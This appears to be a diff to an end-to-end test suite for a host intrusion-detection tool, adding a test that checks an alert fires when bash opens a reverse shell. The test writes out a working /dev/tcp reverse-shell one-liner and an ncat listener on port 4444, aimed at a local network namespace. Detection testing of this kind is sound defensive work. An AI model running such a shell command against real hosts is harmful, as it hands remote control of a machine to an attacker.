@@ -2,6 +2,7 @@ import { appendFileSync, copyFileSync, mkdtempSync, rmSync, statSync, unlinkSync
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { tempDir } from '../helpers/cli.js';
+import { outputOf, remoteHost } from '../helpers/netns.js';
 import { freePort } from '../helpers/monitoring-stack.js';
 import { spawnOwned, stopProcess, waitForOutput } from '../helpers/processes.js';
 import { startStack, testHost, type Stack } from './stack.js';
@@ -114,7 +115,7 @@ describe('end to end: intrusion to page', () => {
     timings.push(['watched file changed, mtime restored (next scan, for: 0)', firing.receivedAt - planted]);
     expect(firing.path).toBe('/page');
     expect(firing.labels).toMatchObject({ severity: 'critical', collector: 'integrity', instance, kind: 'content_changed', attribute: 'content' });
-    expect(firing.annotations.description).toContain('the package manager has not run since the baseline was written');
+    expect(firing.annotations.description).toContain('something other than dpkg changed it');
     const removed = Date.now();
     writeFileSync(watchedFile, 'listen_port=8080\nadmin=alice\n');
     expectResolved('watched file changed', 'HostGuardFileChanged', { path: watchedFile }, removed, 60_000);
@@ -134,6 +135,49 @@ describe('end to end: intrusion to page', () => {
     await stopProcess(listener);
     expectResolved('unexpected listener', 'HostGuardUnexpectedListener', { port: String(port) }, removed, 120_000);
   }, 120_000);
+
+  it('a reverse shell from packaged bash to a remote host: HostGuardShellOnSocket pages', async () => {
+    // The remote host is a network namespace of the test's own behind a veth pair (test/helpers/netns.ts).
+    const remote = remoteHost();
+    try {
+      const port = 4444;
+      const listener = remote.spawn('ncat', ['-l', remote.remoteAddress, String(port)], { stdio: ['pipe', 'pipe', 'pipe'] });
+      const session = outputOf(listener);
+      const ready = Date.now() + 30_000;
+      while (remote.run('ss', ['-Htln', `sport = :${port}`]).trim() === '') {
+        if (Date.now() > ready) throw new Error('the remote listener did not start');
+        await new Promise((r) => setTimeout(r, 50));
+      }
+      const planted = Date.now();
+      const shell = spawnOwned('bash', ['-c', `exec bash -i >& /dev/tcp/${remote.remoteAddress}/${port} 0>&1`]);
+      listener.stdin!.write('echo READY-$((6*7))\n');
+      await session.waitFor(/READY-42/);
+      const firing = await stack.webhook.waitFor(
+        (a) => a.status === 'firing' && a.labels.alertname === 'HostGuardShellOnSocket' && a.labels.port === String(port),
+        60_000,
+        planted,
+      );
+      timings.push(['reverse shell over /dev/tcp (for: 0)', firing.receivedAt - planted]);
+      expect(firing.path).toBe('/page');
+      expect(firing.labels).toMatchObject({
+        severity: 'critical',
+        collector: 'network',
+        instance,
+        exe: '/usr/bin/bash',
+        user_class: 'root',
+        program_class: 'interpreter',
+        protocol: 'tcp',
+        direction: 'outgoing',
+        remote_class: 'private',
+      });
+      expect(firing.annotations.description).toContain(`/usr/bin/bash (root user) on ${instance} has a tcp socket as its`);
+      const removed = Date.now();
+      await stopProcess(shell, 'SIGKILL');
+      expectResolved('reverse shell', 'HostGuardShellOnSocket', { port: String(port) }, removed, 60_000);
+    } finally {
+      await remote.close();
+    }
+  }, 90_000);
 
   it('a burst of SSH authentication failures appended to the auth log: HostGuardAuthBruteForce tickets', async () => {
     const planted = Date.now();
